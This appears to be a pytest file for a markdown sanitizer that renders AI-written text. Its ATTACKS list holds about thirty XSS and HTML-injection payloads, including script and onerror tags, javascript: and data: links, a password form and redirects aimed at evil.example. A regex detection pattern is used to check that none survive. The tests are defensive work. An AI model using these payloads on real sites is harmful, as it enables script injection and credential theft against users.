"""What an AI wrote is shown without doing what it says."""

from __future__ import annotations

import re

import pytest

from apps.common.richtext import markdown_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    '[x](https://ok.example "onclick=alert(1)")',
    '[x](https://ok.example" onclick="alert(1))',
    "<div hx-get='/admin/' hx-trigger='load'>x</div>",
    "<button hx-post=/providers/ formaction=javascript:alert(1)>x</button>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
HARM = re.compile(
    r"<(script|img|svg|iframe|style|form|input|meta|base|math|object|embed|button|div|link)\b|<[^>]+\s(on\w+|style|hx-[\w-]+|id|class=\"(?!language-))\s*=?"
    r"|<[^>]+(href|src|action|formaction)=\"?\s*(javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_survives(attack):
    html = re.sub(r'title="[^"]*"', "", markdown_html(attack))
    assert not HARM.search(html), html


def test_what_is_meant_well_survives():
    html = markdown_html(
        "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n[link](https://ok.example)"
    )
    for part in (
        "<h3>Title</h3>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
        "print(1)",
        'href="https://ok.example"',
    ):
        assert part in html


def test_links_give_nothing_to_where_they_lead():
    assert 'rel="noopener noreferrer nofollow"' in markdown_html("[x](https://ok.example)")


def test_headings_stay_below_those_of_the_page_and_skip_no_level():
    assert headings("# a\n\n## b\n\n### c") == ["h3", "h4", "h5"]
    assert headings("## a\n\n#### b\n\n## c") == ["h3", "h4", "h3"]
    assert headings("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f") == ["h3", "h4", "h5", "h6", "h6", "h6"]


def headings(text: str) -> list[str]:
    return re.findall(r"<(h\d)>", markdown_html(text))
